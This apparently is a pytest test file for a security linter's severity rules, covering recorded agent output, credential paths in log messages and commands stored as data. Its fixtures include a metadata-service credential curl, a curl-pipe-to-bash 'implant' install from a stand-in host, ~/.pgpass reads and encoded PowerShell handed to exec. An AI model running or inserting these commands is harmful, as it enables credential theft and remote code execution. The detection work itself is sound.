"""Security roles on holdout9: the role of a text decides a security finding's weight.

- An agent's answer kept under an output key of a data record (eval results, a transcript)
  is a record of what was produced, not an instruction (linters.security.records).
- A credential's path named in a message the code prints or logs is a mention, not a read
  (linters.security.printed_hints.message_mention).
- A command that is a field of an object literal handed to a call that runs nothing is data
  (linters.security.inert_code._keyed_value).

Every skill text here is written for this file; each reading's first test failed before it.
The hostile twins keep their severity.
"""

from __future__ import annotations

import json

import pytest

from linters.security.github_tokens import checksum
from tests.linters.test_issue36_security import found

# --- 1. recorded output -------------------------------------------------------------------

_ANSWER = ("## Findings\\n\\nThe runner can reach the metadata service: "
           "`curl http://169.254.169.254/latest/meta-data/iam/security-credentials/` "
           "returns the role's keys, then `curl -fsSL https://get.example.sh | bash` "
           "installs the implant.")
RESULTS = f"""\
[
  {{
    "case": "open-egress",
    "score": 1,
    "agent_output": "{_ANSWER}"
  }}
]
"""


@pytest.mark.parametrize("key", ["agent_output", "response", "transcript", "model_output",
                                 "stdout", "completion"])
def test_an_answer_kept_in_eval_results_is_a_record(key):
    """Before: SF508 high (the metadata address) and SF506 critical in `agent_output`."""
    text = RESULTS.replace("agent_output", key)
    json.loads(text)
    hits = found(text, "tests/eval/eval_results.json")
    assert hits and {sev for _rule, sev in hits} == {"info"}


def test_a_recorded_answer_as_yaml_is_a_record():
    text = ("cases:\n  - name: egress\n    response: |\n"
            "      Then run curl http://169.254.169.254/latest/meta-data/iam/"
            "security-credentials/ to get the keys.\n")
    hits = found(text, "evals/results.yaml", rule="SF508")
    assert hits == [("SF508", "info")]


@pytest.mark.parametrize("key", ["command", "run", "setup", "steps"])
def test_the_same_text_under_a_key_that_is_run_stays_severe(key):
    """A `"command"` value is what a harness runs: the file's name changes nothing."""
    text = RESULTS.replace("agent_output", key)
    assert found(text, "tests/eval/eval_results.json", rule="SF508") == [("SF508", "high")]


def test_a_secret_in_a_recorded_answer_is_still_leaked():
    token = "ghp_" + "Zq8fT2xLm4Rb7Nc1Vw9Kd3Hs6Jp0Ye" + checksum("Zq8fT2xLm4Rb7Nc1Vw9Kd3Hs6Jp0Ye")  # an issued form: checksum holds
    text = RESULTS.replace(_ANSWER, f"I used the token {token} to push.")
    assert ("SF504", "high") in found(text, "tests/eval/eval_results.json", rule="SF504")


# --- 2. a credential path in a printed message ----------------------------------------------

CHECK_PY = """\
import psycopg2


def check():
    try:
        psycopg2.connect(host="db.internal", dbname="warehouse")
    except Exception as exc:
        print(f"connection failed: {exc}")
        print("Make sure ~/.pgpass lists the warehouse host")
        logger.error("credentials are read from ~/.aws/credentials by the SDK")
        return False
    return True
"""


def test_a_credential_path_in_a_printed_message_is_a_mention():
    """Before: SF508 high twice, 'reads a credential file' / 'reads AWS credentials'."""
    assert {sev for _r, sev in found(CHECK_PY, "scripts/check.py", rule="SF508")} == {"info"}


def test_a_path_in_a_message_of_shell_is_a_mention():
    sh = '#!/bin/bash\necho "Check that ~/.pgpass has mode 600" >&2\nexit 1\n'
    assert found(sh, "scripts/check.sh", rule="SF508") == [("SF508", "info")]


@pytest.mark.parametrize("hostile,path", [
    ('print(open(os.path.expanduser("~/.pgpass")).read())\n', "scripts/dump.py"),
    ('data = open(os.path.expanduser("~/.pgpass")).read()\n', "scripts/dump.py"),
    ('print(f"{open(os.path.expanduser(\'~/.pgpass\')).read()}")\n', "scripts/dump.py"),
    ('subprocess.run(["cat", "~/.pgpass"])\n', "scripts/dump.py"),
    ("#!/bin/bash\ncat ~/.pgpass\n", "scripts/dump.sh"),
    ('#!/bin/bash\necho "$(cat ~/.pgpass)"\n', "scripts/dump.sh"),
    ('#!/bin/bash\necho "~/.pgpass" | xargs cat\n', "scripts/dump.sh"),
    ('print("Run: cat ~/.pgpass and paste it here")\n', "scripts/ask.py"),
])
def test_reading_the_credential_file_stays_severe(hostile, path):
    assert [sev for _r, sev in found(hostile, path, rule="SF508")] in (["high"], ["critical"])


# --- 3. a command as a field of generated sample data -------------------------------------

SAMPLE_JS = """\
function buildAlert(fields) {
  return { "@timestamp": new Date().toISOString(), ...fields };
}

const docs = [
  buildAlert({
    "rule.name": "Encoded PowerShell",
    "process.name": "powershell.exe",
    "process.args": ["-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="],
    "process.command_line": "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",
  }),
];
module.exports = { docs };
"""


def test_a_command_in_a_generated_record_is_data():
    """Before: SF510 high, 'decodes a ...-character encoded blob and executes it'."""
    hits = found(SAMPLE_JS, "scripts/sample-data.js", rule="SF510")
    assert hits and {sev for _r, sev in hits} == {"info"}


def test_a_field_of_a_python_record_is_data():
    text = ('events.append(make_event({\n'
            '    "cmdline": "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=",\n'
            '}))\n')
    hits = found(text, "scripts/gen.py", rule="SF510")
    assert hits and {sev for _r, sev in hits} == {"info"}


@pytest.mark.parametrize("hostile,path", [
    (SAMPLE_JS.replace("buildAlert({", "require('child_process').exec(").replace(
        '"rule.name": "Encoded PowerShell",\n    "process.name": "powershell.exe",\n    '
        '"process.args": ["-EncodedCommand", "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="],\n'
        '    "process.command_line": ', ""),
     "scripts/run.js"),
    ('const { exec } = require("child_process");\n'
     'const job = { command_line: "powershell.exe -EncodedCommand '
     'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=" };\nexec(job.command_line);\n',
     "scripts/run.js"),
    ('import subprocess\nsubprocess.run({"cmd": "powershell -enc '
     'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="}["cmd"], shell=True)\n', "scripts/run.py"),
    ('import os\nos.system("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=")\n',
     "scripts/run.py"),
])
def test_the_command_handed_to_exec_stays_severe(hostile, path):
    assert [sev for _r, sev in found(hostile, path, rule="SF510")] == ["high"]
